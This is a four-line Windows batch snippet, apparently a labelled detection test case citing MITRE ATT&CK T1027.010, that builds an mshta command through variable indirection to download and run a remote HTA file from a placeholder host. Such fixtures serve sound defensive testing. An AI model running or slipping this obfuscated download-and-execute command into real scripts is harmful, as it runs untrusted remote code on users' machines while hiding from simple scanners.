@rem expect: download-and-run | source: MITRE ATT&CK T1027.010
set part=mshta
call set line=%%part%% http://files.example.invalid/a.hta
%line%
